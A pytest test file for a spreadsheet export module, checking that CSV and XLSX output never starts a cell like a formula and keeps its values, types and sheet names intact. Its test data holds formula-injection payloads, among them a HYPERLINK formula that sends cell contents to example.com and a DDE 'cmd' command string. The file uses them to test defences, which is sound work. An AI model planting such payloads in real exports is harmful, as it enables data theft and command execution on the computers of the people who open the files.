"""What is written opens everywhere, says what it said, and runs nowhere."""

import csv
import sys
from datetime import date, datetime, time
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from backoffice.spreadsheets.cells import cell_text, plain_text, protect, starts_like_formula
from backoffice.spreadsheets.workbook import column_letters
from backoffice.spreadsheets.writing import (
    CHUNK,
    csv_column,
    csv_lines,
    csv_pieces,
    safe_text,
    xlsx_pieces,
)

pytestmark = pytest.mark.once
COMMANDS = ["1+1", 'HYPERLINK("http://example.com/?"&A1)', "cmd|' /C calc'!A0", "SUM(1)*DDE()"]
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n@",
    "\x00=",
    " +",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "\u200b=",
    '"=',
]
PAYLOADS = [start + command for start in STARTS for command in COMMANDS]
MARKUP = ["<r><t>a</t></r>", "</t></is></c><c><f>1+1</f></c>", "a & b", "]]>", "_x0041_", "_x005F_x0041_"]
texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)


def csv_rows(headings, rows):
    content = b"".join(csv_pieces(headings, rows)).decode("utf-8-sig")
    return list(csv.reader(StringIO(content, newline="")))


def xlsx(headings, rows, title="Sheet"):
    return b"".join(xlsx_pieces(headings, iter(rows), title=title))


def sheet_of(content):
    return load_workbook(BytesIO(content)).active


def calamine_rows(content):
    return CalamineWorkbook.from_filelike(BytesIO(content)).get_sheet_by_index(0).to_python()


# Nothing runs


def test_no_cell_and_no_heading_of_a_csv_file_begins_like_a_formula():
    found = csv_rows(PAYLOADS, [PAYLOADS])
    assert len(PAYLOADS) > 40 and [len(row) for row in found] == [len(PAYLOADS)] * 2
    assert not [text for row in found for text in row if starts_like_formula(text) and text[0] != "'"]


def test_no_cell_and_no_heading_of_a_workbook_is_a_formula_or_becomes_one_elsewhere():
    cells = [cell for row in sheet_of(xlsx(PAYLOADS, [PAYLOADS])).iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell for cell in cells if starts_like_formula(cell.value) and cell.value[0] != "'"]


@pytest.mark.parametrize("title", [*PAYLOADS, "a[1]:*?/\\b", "'quoted'", "x" * 99, "", "History & <b>"])
def test_the_name_of_a_sheet_is_one_that_excel_takes(title):
    found = load_workbook(BytesIO(xlsx(["A"], [], title))).sheetnames[0]
    assert 0 < len(found) <= 31 and not set(found) & set("[]:*?/\\'=+@") and found[0] != "-"


def test_markup_in_a_text_stays_text():
    content = xlsx(MARKUP, [MARKUP])
    assert calamine_rows(content) == [MARKUP, MARKUP]
    assert {cell.data_type for row in sheet_of(content).iter_rows() for cell in row} == {"s"}


# The glance that spares most texts the closer look


def test_the_glance_never_lets_a_character_through_that_would_be_changed():
    for code in range(sys.maxunicode + 1):
        for text in (f"{chr(code)}=1", f"a{chr(code)}"):
            if safe_text(text) is text:
                assert protect(text) == text, f"U+{code:04X}"


cells = st.one_of(
    texts, st.sampled_from([*PAYLOADS, "a ", "a\nb", "", "ab", "1.5", "é", "a\n =1", "a,b", 'a"', "a\rb"])
)


@given(st.integers(1, 3).flatmap(lambda width: st.lists(st.lists(cells, min_size=width, max_size=width))))
def test_what_is_written_a_column_at_a_time_is_what_csv_writes_of_each_cell(rows):
    expected = StringIO(newline="")
    csv.writer(expected).writerows([protect(text) for text in row] for row in rows)
    assert csv_lines(map(csv_column, zip(*rows, strict=True))) == expected.getvalue()


def test_a_text_that_is_too_long_for_excel_is_cut():
    row = calamine_rows(xlsx(["A"], [["x" * 40_000], ["=" * 40_000]]))
    assert [len(each[0]) for each in row] == [1, 32_767, 32_767]
    assert len(csv_rows(["A"], [["x" * 40_000]])[1][0]) == 32_767


# What was written is read


@given(st.lists(texts, min_size=1, max_size=3))
def test_any_text_reads_back_from_both_kinds_of_file(row):
    headings = ["A"] * len(row)
    [found] = csv_rows(headings, [row])[1:] or [[""]]
    assert [cell_text(each) for each in found] == [plain_text(each) for each in row]
    found = (calamine_rows(xlsx(headings, [row]))[1:] or [[]])[0]
    assert [cell_text(each) for each in found] + [""] * (len(row) - len(found)) == list(map(plain_text, row))


DAY = date(2026, 11, 20)
MOMENT = datetime.combine(DAY, time(14, 5))
ROW = ["00123", 7, Decimal("1234.50"), True, None, "", MOMENT, DAY, -3]


def test_numbers_dates_and_words_keep_their_kind_in_a_workbook():
    headings, cells = sheet_of(xlsx(list("ABCDEFGHI"), [ROW])).iter_rows()
    assert all(cell.font.bold for cell in headings)
    midnight = datetime.combine(DAY, time.min)
    assert [cell.value for cell in cells] == ["00123", 7, 1234.5, True, None, None, MOMENT, midnight, -3]
    formats = [cell.number_format.replace("\\", "") for cell in cells]
    assert formats[0] == "@" and formats[2] == "#,##0.00"
    assert formats[6:8] == ["yyyy-mm-dd hh:mm", "yyyy-mm-dd"]


def test_a_csv_file_says_numbers_dates_and_yes_or_no_the_plain_way():
    assert csv_rows(["A"] * 9, [ROW])[1] == [
        "00123", "7", "1234.50", "TRUE", "", "", "2026-11-20 14:05", "2026-11-20", "-3",
    ]  # fmt: skip


def test_the_headings_stay_in_sight_over_columns_as_wide_as_what_is_read_first():
    sheet = sheet_of(xlsx(["A", "Name"], [["x", "A long name of a product"]]))
    assert sheet.freeze_panes == "A2"
    assert [sheet.column_dimensions[letter].width for letter in "AB"] == [10, 27]


@pytest.mark.parametrize("rows", [0, 1, CHUNK, 2 * CHUNK + 1])
def test_rows_are_complete_and_in_order_whatever_their_number(rows):
    table = [[n, f"Row {n}"] for n in range(rows)]
    assert csv_rows(["N", "Name"], table) == [["N", "Name"], *[[str(n), text] for n, text in table]]
    sheet = sheet_of(xlsx(["N", "Name"], table))
    assert [list(row) for row in sheet.iter_rows(values_only=True)] == [["N", "Name"], *table]


def test_columns_beyond_z_have_two_letters():
    assert [column_letters(n) for n in (1, 26, 27, 52, 703)] == ["A", "Z", "AA", "AZ", "AAA"]
    wide = list(range(60))
    assert [cell.value for cell in list(sheet_of(xlsx(["A"] * 60, [wide])).iter_rows())[1]] == wide


@pytest.mark.parametrize("write", [csv_pieces, lambda headings, rows: xlsx_pieces(headings, rows, title="A")])
def test_rows_are_read_only_as_the_file_goes_out(write):
    read = []
    pieces = write(["A"], ([read.append(n) or n] for n in range(10 * CHUNK)))
    for _ in range(3):
        next(pieces)
    assert 0 < len(read) <= 3 * CHUNK
    pieces.close()
    assert len(read) <= 3 * CHUNK
